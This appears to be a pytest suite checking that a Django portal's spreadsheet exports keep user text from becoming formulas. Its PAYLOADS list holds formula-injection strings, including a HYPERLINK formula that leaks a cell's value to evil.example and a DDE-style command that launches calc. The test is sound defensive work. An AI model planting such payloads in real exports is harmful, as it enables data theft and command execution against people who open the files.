"""Every export writes user text as text: no cell of a portal spreadsheet is a formula.

Each formula prefix (= + - @, tab, CR) is planted in every user-editable text field that
reaches an export; the files are read back with openpyxl (cell types) and python-calamine
(what a spreadsheet program shows), and the text must come back as typed.
"""

import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from python_calamine import CalamineWorkbook

from core.spreadsheets import xlsx_bytes
from trainees.models import District, Member, MemberGroup

pytestmark = pytest.mark.django_db

YEAR = datetime.date.today().year
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&C3,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def cells(content: bytes):
    """(openpyxl cells, calamine values) of the first sheet."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    typed = [cell for row in book.active.iter_rows() for cell in row]
    shown = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    return typed, [value for row in shown for value in row]


def assert_text_survives(content: bytes, payload: str):
    payload = payload.replace("\r", "\n")  # XML stores every line end as LF; the text is otherwise intact
    typed, shown = cells(content)
    assert not [c.coordinate for c in typed if c.data_type == "f"], "a formula cell in the export"
    assert payload in [c.value for c in typed]
    assert payload in shown


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_writer_keeps_every_formula_prefix_as_text(payload):
    content = xlsx_bytes(headers=["名称"], rows=[[payload]], sheet_title="测试")
    assert_text_survives(content, payload)


def test_the_writer_keeps_dates_as_dates_and_numbers_as_numbers():
    content = xlsx_bytes(
        headers=["日期", "学时"], rows=[[datetime.date(2026, 3, 1), 2.5]], sheet_title="测试"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].is_date and sheet["B2"].value == 2.5
    assert sheet.freeze_panes == "A2"


def test_column_widths_follow_the_content():
    long_header = "平均群众满意度（%）"
    content = xlsx_bytes(
        headers=[long_header, "名"], rows=[["短", "很长很长很长很长的党支部名称"]], sheet_title="测"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.column_dimensions["A"].width >= 2 * len(long_header) - 2
    assert sheet.column_dimensions["B"].width >= 28


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_member_export_keeps_planted_formulas_as_text(cast, client_as, payload):
    member = cast.member_a
    planted = {}
    for field in ("name", "ethnicity", "position"):  # as much of the payload as the column holds
        planted[field] = payload[: Member._meta.get_field(field).max_length]
        setattr(member, field, planted[field])
    member.save(update_fields=list(planted))
    cast.branch_a.name = payload
    cast.branch_a.save(update_fields=["name"])
    group = MemberGroup.objects.create(name=payload)
    member.groups.add(group)
    response = client_as("county").get(reverse("trainees:member-export"))
    for value in {payload, *planted.values()}:
        assert_text_survives(response.content, value)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_points_ranking_keeps_planted_formulas_as_text(cast, client_as, payload):
    cast.member_a.name = payload
    cast.member_a.save(update_fields=["name"])
    cast.branch_a.name = payload + "支部"
    cast.branch_a.save(update_fields=["name"])
    response = client_as("county").get(
        reverse("evaluations:performance-xlsx"), {"township": cast.township_a.pk, "year": YEAR}
    )
    assert_text_survives(response.content, payload)
    assert_text_survives(response.content, payload + "支部")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_annual_summary_keeps_planted_formulas_as_text(cast, client_as, payload):
    cast.township_a.name = payload
    cast.township_a.save(update_fields=["name"])
    District.objects.filter(pk=cast.township_b.district_id).update(name=payload + "片区")
    response = client_as("county").get(reverse("evaluations:report-summary-xlsx"), {"year": YEAR})
    assert_text_survives(response.content, payload)
    assert_text_survives(response.content, payload + "片区")
